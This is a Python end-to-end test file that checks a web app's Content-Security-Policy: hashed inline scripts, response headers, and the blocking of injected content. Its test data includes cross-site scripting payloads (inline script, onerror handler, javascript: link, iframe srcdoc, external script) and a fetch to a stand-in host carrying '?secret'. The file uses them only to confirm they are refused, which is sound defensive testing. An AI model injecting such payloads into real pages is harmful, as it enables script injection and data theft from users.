"""The Content-Security-Policy: every document has it, the page keeps to it, and what is injected does not run."""

import base64
import hashlib
import html
import re
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, expect

from cli.parts import ROOT
from tests.e2e.local_system import BROWSER_SEES, LocalSystem
from tests.e2e.steps import answer, ask, scroll_to_postings

OUT = ROOT / "web" / "out"
OURS = {f"http://localhost:{port}" for port in BROWSER_SEES.values()}
INJECTED = """<script>window.hacked = "a script"</script>
<img src="/nothing" onerror="window.hacked = 'an attribute'">
<script src="https://example.com/script.js"></script>
<iframe srcdoc="<script>parent.hacked = 'a frame'</script>"></iframe>"""


def watch(page: Page) -> list[str]:
    """What the browser refuses, as it happens."""
    refused: list[str] = []
    page.expose_function("refuse", lambda said: refused.append(said))
    page.add_init_script(
        "addEventListener('securitypolicyviolation',"
        " event => refuse(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))"
    )
    return refused


def policy_of(document: str) -> dict[str, list[str]]:
    """The directives of a document's own policy, which governs what comes after it."""
    before, content, _ = re.split(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', document)
    assert not re.search("<(script|style|link|body)", before)
    directives = [directive.split() for directive in html.unescape(content).split(";")]
    return {name: sources for name, *sources in directives}


def test_every_document_allows_its_own_scripts_and_no_others(system: LocalSystem) -> None:
    documents = {path.name: path.read_text() for path in OUT.rglob("*.html")}
    assert {"index.html", "explore.html", "404.html"} <= documents.keys()
    for document in documents.values():
        policy = policy_of(document)
        scripts = re.findall(r"<script(?![^>]* src=)[^>]*>(.*?)</script>", document, re.DOTALL)
        hashes = {base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts}
        assert len(scripts) == 3
        assert set(policy["script-src"]) == {"'self'", *(f"'sha256-{each}'" for each in hashes)}
        assert (
            policy["default-src"] == policy["object-src"] == policy["base-uri"] == policy["form-action"] == ["'none'"]
        )
        assert policy["connect-src"] == ["'self'", "http://localhost:8000", "http://localhost:8001"]


@pytest.mark.parametrize("path", ["/", "/explore", "/nowhere", "/icon.svg"])
def test_the_headers_are_those_of_the_deployed_page(system: LocalSystem, path: str) -> None:
    headers = httpx.get(f"http://127.0.0.1:{system.ports['web']}{path}").headers

    assert headers["content-security-policy"] == "frame-ancestors 'none'"
    assert headers["x-content-type-options"] == "nosniff"


def test_nothing_that_the_page_does_is_against_the_policy(page: Page, tmp_path: Path) -> None:
    refused, origins = watch(page), set[str]()
    page.on("console", lambda message: refused.extend([message.text] if message.type == "error" else []))
    page.on("request", lambda request: origins.add("{0.scheme}://{0.netloc}".format(urlsplit(request.url))))

    page.goto("/nowhere")
    expect(page.get_by_role("heading", name="There is no such page")).to_be_visible()
    refused.clear()  # the browser says in its console that there is no such page
    page.get_by_role("link", name="Ask a question").click()
    ask(page, "Which countries have the most jobs in January 2026?")
    answer(page).get_by_role("paragraph").get_by_role("button").first.hover()
    figure = answer(page).get_by_role("figure")
    figure.get_by_role("button", name="Export").click()
    with page.expect_download() as picture:
        figure.get_by_role("button", name="Download PNG").click()
    figure.get_by_role("button", name="Export").click()
    figure.get_by_role("button", name="Copy picture").click()
    expect(figure.get_by_text("Picture copied")).to_be_visible()
    page.get_by_role("button", name="Use the dark theme").click()
    page.get_by_role("link", name="Explore").click()
    scroll_to_postings(page)
    page.get_by_role("table").locator("tbody button").first.click()
    expect(page.get_by_role("dialog", name="Posting").get_by_role("heading", name="Description")).to_be_visible()
    page.reload()
    expect(page.get_by_role("dialog", name="Posting")).to_be_visible()

    picture.value.save_as(tmp_path / "chart.png")
    assert refused == []
    assert origins - {"data://", "blob://"} == OURS


def test_what_is_injected_into_a_document_does_not_run(page: Page, system: LocalSystem) -> None:
    document = httpx.get(f"http://127.0.0.1:{system.ports['web']}/explore").text.replace(
        "</body>", f"{INJECTED}</body>"
    )
    page.route(re.compile("/explore$"), lambda route: route.fulfill(body=document, content_type="text/html"))
    refused = watch(page)
    page.goto("/explore")
    page.get_by_role("button", name="Use the dark theme").click()
    expect(page.get_by_role("button", name="Use the light theme")).to_be_visible()  # our own scripts run

    assert page.evaluate("window.hacked") is None
    assert {"script-src-elem inline", "script-src-attr inline", "script-src-elem https://example.com/script.js"} <= {
        " ".join(each.split()[:2]) for each in refused
    }


def test_what_is_injected_into_a_page_does_not_run(page: Page) -> None:
    refused = watch(page)
    page.goto("/")
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.hacked = 'a script'";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<img src='/nothing' onerror='window.hacked = 1'>");
            document.body.insertAdjacentHTML("beforeend", "<a href='javascript:window.hacked = 2'>a trap</a>");
            setTimeout("window.hacked = 3");
            fetch("https://example.com/?secret").catch(() => {});
        }"""
    )
    page.get_by_text("a trap").click()
    page.wait_for_load_state("networkidle")

    assert page.evaluate("window.hacked") is None
    assert {each.split()[0] for each in refused} == {"script-src-elem", "script-src-attr", "script-src", "connect-src"}
